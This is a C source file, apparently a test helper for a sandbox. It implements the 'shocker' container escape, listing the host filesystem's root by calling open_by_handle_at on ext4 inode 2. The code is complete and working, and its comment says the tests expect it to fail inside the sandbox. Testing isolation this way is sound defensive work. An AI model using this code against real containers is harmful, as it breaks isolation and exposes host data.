// open-by-handle MOUNTPOINT: the "shocker" escape. Opens, by file handle, the root directory (inode 2) of
// the ext4 filesystem that MOUNTPOINT lives on, which needs no path and so ignores every mount and chroot
// on the way, and lists it. With CAP_DAC_READ_SEARCH in the host's user namespace this reads the host's
// disk; the escape tests run it in a sandbox (it must fail) and on the host (it must work).
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: open-by-handle MOUNTPOINT\n");
    return 2;
  }
  int mount_fd = open(argv[1], O_RDONLY | O_DIRECTORY);
  if (mount_fd < 0) {
    printf("open %s: %s\n", argv[1], strerror(errno));
    return 1;
  }
  // FILEID_INO32_GEN: a 32-bit inode number and its generation; ext4's root directory is inode 2.
  struct file_handle *handle = malloc(sizeof *handle + 8);
  handle->handle_bytes = 8;
  handle->handle_type = 1;
  unsigned int ino_gen[2] = {2, 0};
  memcpy(handle->f_handle, ino_gen, sizeof ino_gen);
  int fd = open_by_handle_at(mount_fd, handle, O_RDONLY | O_DIRECTORY);
  if (fd < 0) {
    printf("open_by_handle_at: %s\n", strerror(errno));
    return 1;
  }
  DIR *dir = fdopendir(fd);
  for (struct dirent *e; dir && (e = readdir(dir));) printf("%s\n", e->d_name);
  return 0;
}
